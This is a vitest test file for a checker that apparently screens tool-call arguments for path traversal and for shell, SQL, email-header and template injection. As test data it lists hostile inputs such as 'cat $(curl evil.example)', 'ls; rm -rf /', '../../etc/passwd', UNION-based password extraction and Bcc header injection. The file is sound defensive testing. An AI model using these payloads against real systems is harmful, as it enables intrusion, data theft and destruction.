import { describe, expect, it } from 'vitest';
import type { JsonObject, JsonValue } from '../../base/json.ts';
import type { Constraint } from '../../model/constraint.ts';
import type { Effect } from '../../model/effect.ts';
import { prepareDangerCheck } from './check-dangers.ts';
import { WorkBudget } from './work-budget.ts';

const place = { file: 'chaperone.yaml', line: 1, column: 1 };

/** The kinds of danger found, or `fine`. */
function dangers(
  args: JsonObject,
  limits: Readonly<Record<string, Constraint>> = {},
  effect: Effect = 'read',
  schema: JsonObject = {},
) {
  const constraints = Object.entries(limits).map(([argument, constraint]) => ({ argument, constraint, place }));
  const budget = new WorkBudget();
  budget.refill();
  const reasons = prepareDangerCheck(schema, effect, constraints)(args, budget);
  return reasons.map(({ policy, path }) => `${policy?.split(' ').at(-1)} ${path}`).join(', ') || 'fine';
}

describe('the built-in checks find', () => {
  it.each<[string, JsonValue, string]>([
    ['path', '../../etc/passwd', 'path'],
    ['path', '/srv/data/../../etc/passwd', 'path'],
    ['path', 'a/../../b', 'path'],
    ['path', '..\\..\\windows\\system32', 'path'],
    ['path', 'C:\\data\\..\\..\\x', 'path'],
    ['filePath', '%2e%2e%2fetc%2fpasswd', 'path'],
    ['file_name', '..%2f..%2fetc', 'path'],
    ['filename', '%252e%252e%252fetc', 'path'],
    ['filename', 'report.txt\0.png', 'path'],
    ['directory', '....//....//etc', 'path'],
    ['directory', '．．/．．/etc', 'path'],
    ['content_path', '../x', 'path'],
    ['paths', ['ok.txt', '../x'], 'path'],
    ['command', 'ls; rm -rf /', 'shell'],
    ['command', 'cat $(curl evil.example)', 'shell'],
    ['command', 'ls | sh', 'shell'],
    ['command', 'a && b', 'shell'],
    ['command', 'echo `id`', 'shell'],
    ['command', 'ls\nrm x', 'shell'],
    ['cmd', 'echo $HOME > x', 'shell'],
    ['hostname', 'example.com; curl evil.example', 'shell'],
    ['host', '$(id).evil.example', 'shell'],
    ['branch', 'main`id`', 'shell'],
    ['filename', 'a.txt; rm -rf ~', 'shell'],
    ['sql', 'DROP TABLE users', 'sql'],
    ['sql', 'SELECT 1; DELETE FROM users', 'sql'],
    ['sql', 'SELECT a FROM t UNION SELECT password FROM users', 'sql'],
    ['sql', 'WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x', 'sql'],
    ['sql', "SELECT 'a' /*! INTO OUTFILE '/tmp/x' */ FROM t", 'sql'],
    ['sql', "SELECT 'a\\' ; DROP TABLE x; -- '", 'sql'],
    ['sql', "SELECT pg_read_file('/etc/passwd')", 'sql'],
    ['sql', 'EXPLAIN ANALYZE DELETE FROM users', 'sql'],
    ['sql', 'hello', 'sql'],
    ['query', 'delete from users where 1=1', 'sql'],
    ['query', "x' UNION SELECT password FROM users --", 'sql'],
    ['query', "x' OR '1'='1", 'sql'],
    ['query', "Robert'); DROP TABLE students;--", 'sql'],
    ['query', 'SELECT name FROM users; DROP TABLE users', 'sql'],
    ['filter', "admin'--", 'sql'],
    ['where', '1 OR 1=1', 'sql'],
    ['subject', 'Hi\r\nBcc: eve@evil.example', 'header'],
    ['to', 'a@company.com\nBcc: eve@evil.example', 'header'],
    ['recipients', ['a@company.com', 'b@company.com%0d%0aBcc: e'], 'header'],
    ['user_email', 'a@b.example\u2028x', 'header'],
    ['address', 'a@company.com\nBcc: eve@evil.example', 'header'],
    ['headers', { 'X-Note': 'a\r\nSet-Cookie: b' }, 'header'],
    ['subject', '{{7*7}}', 'template'],
    ['title', "{{ ''.__class__.__mro__ }}", 'template'],
    ['name', '\u0024{process.env.SECRET}', 'template'],
    ['template', '<%= system("id") %>', 'template'],
    ['title', '{% import os %}', 'template'],
    ['name', '{{config}}', 'template'],
    ['label', '#{7*7}', 'template'],
  ])('%s: %j', (name, value, kind) => {
    expect(dangers({ [name]: value })).toMatch(new RegExp(`(^|, )${kind} /${name}`));
  });
});

describe('the built-in checks leave alone', () => {
  it.each<[string, JsonValue]>([
    ['name', "O'Brien & Sons"],
    ['name', 'C++ {{ hello }}'],
    ['body', 'C++ {{ 7*7 }} <% x %> \u0024{a.b}; rm -rf / && DROP TABLE users\r\nBcc: x'],
    ['note', 'a; b'],
    ['file_content', '../../etc/passwd $(id)'],
    ['text', "x' OR '1'='1"],
    ['content', { path_note: '../x', body: 'a\nb' }],
    ['path', 'docs/../README.md'],
    ['path', '/home/ann/Q&A; notes (v2).md'],
    ['path', 'a...b/and… so on/file..txt'],
    ['path', 'C:\\Users\\Ann\\100% done.txt'],
    ['path', '.github/workflows/ci.yml'],
    ['json_path', '$..book[?(@.price<10)]/../x'],
    ['filename', 'Smith, Jones & Co. (2024) [final].pdf'],
    ['command', 'git log --oneline -n 5'],
    ['command', 'npm run build -- --mode=production "a b"'],
    ['hostname', 'db-1.internal'],
    ['branch', 'feature/a-b_c.d#12'],
    ['query', 'select a good restaurant near the union station'],
    ['query', "how do I drop a table in O'Reilly's example; or delete from it?"],
    ['query', 'cats OR dogs AND "fish & chips" -birds'],
    ['query', 'from:ann@company.com subject:(update set) is:unread'],
    ['query', 'Update address for customer = 12'],
    ['query', 'SELECT name, email FROM users WHERE id = 1'],
    ['query', 'rock & roll; 1=1?'],
    ['search', "rock 'n' roll"],
    ['filter', "name eq 'O''Brien' and age gt 3"],
    ['sql', "SELECT a, 'DROP TABLE x; -- no' AS note FROM t WHERE b = 'it''s' ORDER BY a;"],
    ['sql', 'WITH x AS (SELECT 1) SELECT * FROM x -- the end'],
    ['sql', 'SELECT updated_at, "delete" FROM logs'],
    ['subject', 'Re: 50% off; {{ name }} & friends'],
    ['address', '12 Main Street\nSpringfield\nRing twice'],
    ['title', 'How to write {{ mustache }} and \u0024{name}'],
    ['template', 'Hello {{name}}, your order {{ order_id }} is ready'],
    ['to', ['Ann <ann@company.com>']],
    ['headers', { Accept: 'text/html, application/json;q=0.9' }],
    ['message_id', '<a$b@c>'],
    ['count', 3],
  ])('%s: %j', (name, value) => {
    expect(dangers({ [name]: value })).toBe('fine');
  });

  it('SQL that changes, where the tool is declared to change things', () => {
    expect(dangers({ sql: 'DELETE FROM users' }, {}, 'write')).toBe('fine');
  });
});

describe('permits', () => {
  it('lifts the named check, from the argument and what is in it', () => {
    expect(dangers({ command: 'a | b' }, { command: { permits: ['shell'] } })).toBe('fine');
    expect(dangers({ command: 'a | b' }, { command: { permits: ['sql'] } })).toBe('shell /command');
    expect(dangers({ options: { path: '../x' } }, { options: { permits: ['path'] } })).toBe('fine');
    expect(dangers({ steps: [{ command: 'a|b' }] }, { 'steps[].command': { permits: ['shell'] } })).toBe('fine');
    expect(dangers({ path: '../x', other_path: '../x' }, { path: { permits: ['path'] } })).toBe('path /other_path');
  });

  it('leaves a path under `directories` to that limit', () => {
    expect(dangers({ path: '/data/a/../b' }, { path: { directories: ['/data'] } })).toBe('fine');
  });
});

it('knows addresses by their declared format', () => {
  const schema = { type: 'object', properties: { contact: { type: 'string', format: 'email' } } };
  expect(dangers({ contact: 'a@b\nx' }, {}, 'read', schema)).toBe('header /contact');
  expect(dangers({ contact: 'a@b\nx' })).toBe('fine');
});

it('takes time linear in the text', () => {
  const texts = [
    '../',
    "' or ",
    'select a ',
    '{{a',
    '\u0024{a',
    "'",
    'update a ',
    '; ',
    '/*',
    '%25',
    'with a as ',
    '(',
    ' union ',
    '-- \n',
    '#{',
  ];
  for (const piece of texts) {
    const run = piece.repeat(Math.ceil(50_000 / piece.length));
    const value = `${run}x${run}`;
    const before = performance.now();
    for (const name of ['path', 'command', 'sql', 'query', 'subject', 'host', 'template']) dangers({ [name]: value });
    expect(performance.now() - before, piece).toBeLessThan(3_000);
  }
});
